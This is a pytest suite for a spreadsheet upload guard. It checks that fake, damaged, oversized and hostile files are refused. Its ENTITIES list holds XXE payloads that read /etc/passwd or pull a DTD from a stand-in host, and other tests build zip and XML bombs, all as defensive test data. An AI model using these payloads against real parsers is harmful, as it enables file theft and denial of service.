"""Files that are no workbook, or a weapon: each refused in one sentence that says what to do (X21 to X24, P13)."""

import io
import struct
import tracemalloc
import zipfile

import pytest

from services.member.workbooks import limits
from services.member.workbooks.guard import check
from services.member.workbooks.refusals import (
    BY_CODE,
    WorkbookBomb,
    WorkbookDamaged,
    WorkbookEmpty,
    WorkbookEncrypted,
    WorkbookIsCsv,
    WorkbookKindUnknown,
    WorkbookRefused,
    WorkbookStrayCell,
    WorkbookTooLarge,
    WorkbookTooManyColumns,
    WorkbookTooManyRows,
    WorkbookXmlUnsafe,
)
from tests.member.workbooks.books import (
    inline_row,
    labels,
    line,
    many,
    member_book,
    packed,
    parts_of,
    raw_book,
    read,
    with_parts,
    xls,
)

pytestmark = pytest.mark.rule("P13")

SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def good():
    return member_book(many(2))


@pytest.mark.rule("MEM-09")
@pytest.mark.parametrize(
    ("content", "name", "refusal", "word"),
    [
        (b"", "a.xlsx", WorkbookEmpty, "空"),
        ("姓名,证件号码\n张三,1".encode(), "团员.csv", WorkbookIsCsv, ".csv"),
        (packed({"xl/workbook.xml": "<a/>"}), "团员.csv", WorkbookIsCsv, ".csv"),
        ("姓名,证件号码\n张三,1".encode("gbk"), "团员.xlsx", WorkbookIsCsv, "另存为.xlsx"),
        ("姓名\t证件号码".encode("utf-16"), "团员.xls", WorkbookIsCsv, "另存为.xlsx"),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "图片"),
        (b"\xff\xd8\xff\xe0" + b"\0" * 99, "团员.xls", WorkbookKindUnknown, "图片"),
        (b"%PDF-1.7" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "PDF"),
        (b"Rar!\x1a\x07" + b"\0" * 99, "团员.xlsx", WorkbookKindUnknown, "压缩包"),
        (b"<html><table><tr><td>x", "团员.xls", WorkbookKindUnknown, "网页"),
        (b'\xef\xbb\xbf<?xml version="1.0"?><Workbook/>', "团员.xls", WorkbookKindUnknown, "XML"),
        (b"\x00\x01\x02\x03" * 99, "团员.xlsx", WorkbookDamaged, "损坏"),
        (packed({"a.txt": "x"}), "团员.xlsx", WorkbookKindUnknown, "压缩包"),
        (packed({"word/document.xml": "<a/>"}), "团员.xlsx", WorkbookKindUnknown, "文字文档"),
        (packed({"ppt/presentation.xml": "<a/>"}), "团员.xlsx", WorkbookKindUnknown, "演示文稿"),
        (packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "a.xlsx", WorkbookKindUnknown, "软件"),
        (packed({"xl/workbook.bin": "x"}), "团员.xlsx", WorkbookKindUnknown, ".xlsb"),
    ],
)
def test_what_is_no_workbook_is_refused_by_what_it_is(content, name, refusal, word):
    with pytest.raises(refusal) as refused:
        check(content, name)
    assert word in refused.value.sentence()


@pytest.mark.rule("MEM-09")
@pytest.mark.parametrize("suffix", [".xlsm", ".xlsb", ".ods", ".et", ".zip", ""])
def test_only_xlsx_and_xls_are_taken_others_are_refused_by_name(good, suffix):
    with pytest.raises(WorkbookKindUnknown):
        check(good, f"团员{suffix}")


def test_every_refusal_of_a_file_is_one_sentence_that_says_what_to_do():
    for refusal in BY_CODE.values():
        sentence = refusal.zh
        assert "请" in sentence
        assert sentence.count("。") <= 1
        assert refusal.way_out == ""


@pytest.mark.rule("X21")
def test_a_file_over_five_mebibytes_is_refused_unopened(good):
    assert check(good + b"", "a.xlsx")
    with pytest.raises(WorkbookTooLarge):
        check(good + b"\0" * limits.FILE_BYTES, "a.xlsx")


@pytest.mark.rule("X21")
@pytest.mark.parametrize("keep", [0.02, 0.3, 0.6, 0.9, 0.99])
def test_a_truncated_file_is_refused(good, keep):
    with pytest.raises(WorkbookDamaged):
        check(good[: int(len(good) * keep)], "a.xlsx")
    if keep < 0.99:
        # the very last bytes of this container may be mere filling
        with pytest.raises(WorkbookRefused):
            check(xls()[: int(len(xls()) * keep)], "a.xls")


@pytest.mark.rule("X21")
def test_a_bomb_costs_no_more_than_its_limit():
    """Nothing but blanks, packed to a thousandth: reading stops at the limit."""
    bomb = raw_book("<row r='1'>" + " " * (60 * limits.MIB) + "</row>")
    assert len(bomb) < limits.MIB
    tracemalloc.start()
    with pytest.raises(WorkbookBomb):
        check(bomb, "a.xlsx")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2 * limits.UNPACKED_BYTES


@pytest.mark.rule("X21")
def test_a_header_that_lies_about_the_size_is_not_believed(good):
    """The directory claims a hundred bytes for a part of forty mebibytes."""
    parts = parts_of(good) | {SHEET: b"<a>" + b" " * (40 * limits.MIB) + b"</a>"}
    content = bytearray(packed(parts))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        real = struct.pack("<I", archive.getinfo(SHEET).file_size)
    at = content.find(real)
    while at >= 0:
        content[at : at + 4] = struct.pack("<I", 100)
        at = content.find(real)
    with pytest.raises(WorkbookRefused):
        check(bytes(content), "a.xlsx")


@pytest.mark.rule("X21")
def test_too_many_entries_nested_archives_and_two_of_one_name_are_refused(good):
    with pytest.raises(WorkbookBomb):
        check(with_parts(good, parts={f"xl/media/{at}.png": b"x" for at in range(200)}), "a.xlsx")
    for nested in (packed({"a": "b"}), b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08"):
        with pytest.raises(WorkbookBomb):
            check(with_parts(good, parts={"xl/media/image1.png": nested}), "a.xlsx")
    target = io.BytesIO(good)
    with zipfile.ZipFile(target, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(SHEET, "<worksheet/>")
    with pytest.raises(WorkbookDamaged):
        check(target.getvalue(), "a.xlsx")


@pytest.mark.rule("X21")
def test_an_unknown_compression_and_an_encrypted_entry_are_refused(good):
    with pytest.raises(WorkbookDamaged):
        check(packed(parts_of(good), zipfile.ZIP_LZMA), "a.xlsx")
    flagged = bytearray(good)
    at = flagged.index(b"PK\x01\x02")
    flagged[at + 8] |= 1
    with pytest.raises(WorkbookEncrypted):
        check(bytes(flagged), "a.xlsx")


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>',
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet>&x;</worksheet>',
    '<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd"><worksheet/>',
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><worksheet/>',
)


@pytest.mark.rule("X22")
@pytest.mark.parametrize("xml", ENTITIES)
@pytest.mark.parametrize(
    "part",
    [
        SHEET,
        "xl/workbook.xml",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "_rels/.rels",
        "[Content_Types].xml",
        "docProps/app.xml",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_part_may_declare_entities_whatever_its_encoding(good, xml, part, encoding):
    with pytest.raises(WorkbookXmlUnsafe):
        check(with_parts(good, parts={part: xml.encode(encoding)}), "a.xlsx")


@pytest.mark.rule("X22")
@pytest.mark.parametrize("part", [SHEET, "xl/sharedStrings.xml", "xl/theme/theme1.xml"])
def test_deep_nesting_is_refused(good, part):
    deep = "<a>" * 100_000 + "</a>" * 100_000
    with pytest.raises(WorkbookRefused):
        check(with_parts(good, parts={part: deep}), "a.xlsx")
    with pytest.raises(WorkbookBomb):
        check(with_parts(good, parts={part: "<a>" * 101 + "</a>" * 101}), "a.xlsx")


@pytest.mark.rule("X22")
@pytest.mark.parametrize(
    "xml", ["<worksheet>", "no xml", "", "<a></b>", "<a>\x00</a>", '<?xml version="1.0" encoding="x-evil"?><a/>']
)
def test_broken_xml_is_a_damaged_file(good, xml):
    with pytest.raises(WorkbookDamaged):
        check(with_parts(good, parts={SHEET: xml}), "a.xlsx")


@pytest.mark.rule("X23")
def test_a_declared_range_is_not_believed():
    header = inline_row(1, labels()) + inline_row(2, ["" if v is None else v for v in line(many(1)[0])])
    content = raw_book(header).replace(b"x", b"x")
    parts = parts_of(content)
    parts[SHEET] = parts[SHEET].replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    assert len(read(packed(parts))[1]) == 1


@pytest.mark.rule("X23")
@pytest.mark.parametrize(
    ("reference", "refusal"),
    [("A1048576", WorkbookStrayCell), ("V900000", WorkbookStrayCell), ("XFD2", WorkbookTooManyColumns)],
)
def test_a_lone_cell_far_away_costs_nothing_and_is_named(reference, refusal):
    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = inline_row(1, labels()) + f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row>'
    content = raw_book(rows)
    tracemalloc.start()
    with pytest.raises(refusal) as refused:
        read(content)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 50 * limits.MIB
    if refusal is WorkbookStrayCell:
        assert row in refused.value.sentence()


@pytest.mark.rule("X23")
def test_endless_rows_are_refused_before_they_are_laid_out():
    rows = "".join(f'<row r="{at}"><c r="A{at}"><v>1</v></c></row>' for at in range(2, limits.ROWS_WITH_CELLS + 10))
    with pytest.raises(WorkbookTooManyRows):
        check(raw_book(inline_row(1, labels()) + rows), "a.xlsx")


@pytest.mark.rule("X23")
@pytest.mark.parametrize(
    "reference", ["ZZZZZ1", "A-1", "1", "", "A99999999999999999999", "A0", "A1048577", "XFE1", "a1"]
)
def test_an_impossible_cell_reference_is_no_crash(reference):
    content = raw_book(f'<row r="1"><c r="{reference}"><v>1</v></c></row>')
    with pytest.raises(WorkbookRefused):
        read(content)
